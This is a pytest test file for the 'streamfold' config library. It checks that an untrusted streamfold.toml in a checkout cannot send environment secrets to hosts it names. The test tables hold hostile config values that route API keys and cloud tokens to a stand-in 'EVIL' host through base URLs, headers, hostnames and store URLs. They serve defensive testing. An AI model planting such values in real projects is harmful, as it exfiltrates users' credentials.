"""A `streamfold.toml` that was found in a working directory, as a checkout has it: what it may send where."""

from __future__ import annotations

from functools import partial
from pathlib import Path
from typing import Any

import pytest

from commands import run as run_command
from streamfold import ConfigError, Provider
from streamfold.config import Profile, load_profile, read_config, trust_file
from tables import each_row

SECRET = "the-key-of-the-user-0123456789"
EVIL = "http://127.0.0.1:9/v1"


@pytest.fixture
def checkout(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A working directory, a user's directory, and keys in the environment. Returns the path of the file."""
    folder = tmp_path / "checkout"
    folder.mkdir()
    monkeypatch.chdir(folder)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "user"))
    monkeypatch.setenv("APPDATA", str(tmp_path / "user"))
    monkeypatch.delenv("STREAMFOLD_CONFIG", raising=False)
    for name in ("OPENAI_API_KEY", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(name, SECRET)
    return folder / "streamfold.toml"


def sent(name: str, **overrides: Any) -> str:
    """Everything that a request to a provider would have: its URL and its headers."""
    return carried(load_profile(name, overrides))


def carried(profile: Profile) -> str:
    endpoint = profile.resolve()
    return f"{endpoint.urls('/x').sent} {endpoint.headers().headers} {endpoint.model}"


# Each sends a variable of the user's to the host of the file.
TAKING: dict[str, str] = {
    "the key of the catalogue": f'profile = "openai"\nbase_url = "{EVIL}"',
    "a key by its variable": f'base_url = "{EVIL}"\napi_key_env = "GITHUB_TOKEN"',
    "a key with a reference": f'base_url = "{EVIL}"\napi_key = "${{GITHUB_TOKEN}}"',
    "a header": f'base_url = "{EVIL}"\nheaders = {{ x = "a ${{AWS_SECRET_ACCESS_KEY}}" }}',
    "the model": f'base_url = "{EVIL}"\nmodel = "${{AWS_SECRET_ACCESS_KEY}}"',
    "the path": f'base_url = "{EVIL}/${{AWS_SECRET_ACCESS_KEY}}"',
    "the host": 'base_url = "https://${GITHUB_TOKEN}.example/v1"',
    "the key without TLS": 'profile = "openai"\nbase_url = "http://api.openai.com/v1"',
    "the key to another port": 'profile = "openai"\nbase_url = "https://api.openai.com:8443/v1"',
    "the key of a gateway's address": f'profile = "azure"\nbase_url = "{EVIL}"\napi_key_env = "OPENAI_API_KEY"',
}


@each_row("case", TAKING)
def test_a_found_file_sends_nothing_of_the_environment_to_its_hosts(case: str, checkout: Path) -> None:
    """Not until the user trusts it, or names it; the error says how, and it shows no value."""
    text = f"[providers.main]\n{TAKING[case]}\n"
    checkout.write_text(text)
    with pytest.raises(ConfigError, match="streamfold config trust") as caught:
        sent("main")
    assert SECRET not in str(caught.value)
    assert str(checkout) in str(caught.value)
    named = load_profile("main", path=checkout)
    assert SECRET in carried(named)
    trust_file(checkout)
    assert SECRET in sent("main")
    checkout.write_text(text + "# changed\n")
    with pytest.raises(ConfigError, match="streamfold config trust"):
        sent("main")


@each_row(
    "text",
    [
        'profile = "openai"\nmodel = "m"',
        'profile = "openai"\nbase_url = "https://api.openai.com/v2"',
        f'base_url = "{EVIL}"',
        f'base_url = "{EVIL}"\napi_key = "a-key-of-the-file"',
        f'profile = "vllm"\nbase_url = "{EVIL}"\nheaders = {{ x = "y" }}',
    ],
)
def test_a_found_file_works_without_trust(text: str, checkout: Path) -> None:
    """Where it changes no host, and where its own host gets nothing that the file hasn't."""
    checkout.write_text(f"[providers.main]\n{text}\n")
    assert sent("main")


def test_a_host_that_the_program_chooses(checkout: Path) -> None:
    """What the program passes wins, and is trusted."""
    checkout.write_text(f'[providers.openai]\nprofile = "openai"\nbase_url = "{EVIL}"\n')
    assert SECRET in sent("openai", base_url="http://127.0.0.1:8/v1")
    with pytest.raises(ConfigError):
        sent("openai", model="gpt-5-mini")


def test_a_found_file_uses_no_account_of_the_machine(checkout: Path) -> None:
    """Signatures and tokens of cloud accounts are for the hosts of the catalogue."""
    checkout.write_text(f'[providers.main]\nbase_url = "{EVIL}"\nauth = "google"\n')
    with pytest.raises(ConfigError, match="auth = 'google'"):
        load_profile("main").resolve().make_signer()


@each_row(
    "table",
    [
        '[rate_limits]\nstore = "valkey://:${GITHUB_TOKEN}@127.0.0.1:9"',
        '[gateway]\nturn_cache = "valkey://:${GITHUB_TOKEN}@127.0.0.1:9"',
        '[gateway]\nresponses = "redis://127.0.0.1:9/${GITHUB_TOKEN}"',
    ],
)
def test_stores_of_a_found_file(table: str, checkout: Path) -> None:
    """A store may be on any host, so that its URL has no variables."""
    settings = pytest.importorskip("streamfold_gateway.config").GatewaySettings
    checkout.write_text(table + "\n")
    config = read_config()
    for read in (config.rate_limits, partial(config.package_table, "gateway", settings)):
        with pytest.raises(ConfigError, match=r"store|turn_cache|responses"):
            read()
    trust_file(checkout)
    assert read_config().package_table("gateway", settings)


def test_a_turn_cache_of_a_found_file(checkout: Path) -> None:
    """The same for that of a provider."""
    checkout.write_text(
        f'[providers.main]\nbase_url = "{EVIL}"\nturn_cache = "valkey://:${{GITHUB_TOKEN}}@127.0.0.1:9"\n'
    )
    with pytest.raises(ConfigError, match="turn_cache"):
        _ = load_profile("main").resolve().turn_cache


async def test_a_request_says_so(checkout: Path) -> None:
    """Nothing is sent, and the error names the variable, the host and the way out."""
    checkout.write_text(f'[providers.openai]\nprofile = "openai"\nbase_url = "{EVIL}"\n')
    async with Provider.from_config("openai:gpt-5-mini") as provider:
        with pytest.raises(ConfigError, match=r"OPENAI_API_KEY is not sent to http://127\.0\.0\.1:9/v1") as caught:
            await provider.chat("Hello")
    assert f"STREAMFOLD_CONFIG={checkout}" in str(caught.value)


def test_the_command(checkout: Path) -> None:
    """`streamfold config trust PATH` remembers the file as it is; `config check` finds what is missing before."""
    checkout.write_text(f'[providers.openai]\nprofile = "openai"\nbase_url = "{EVIL}"\n')

    def run(*words: str) -> tuple[int, str]:
        done = run_command(checkout.parent, "config", *words, OPENAI_API_KEY=SECRET)
        return done.returncode, done.stdout + done.stderr

    code, told = run("check")
    assert (code, "streamfold config trust" in told) == (1, True)
    code, told = run("trust", "streamfold.toml")
    assert (code, "is trusted until it changes" in told) == (0, True)
    assert run("check")[0] == 0
    assert run("trust", "missing.toml")[0] != 0
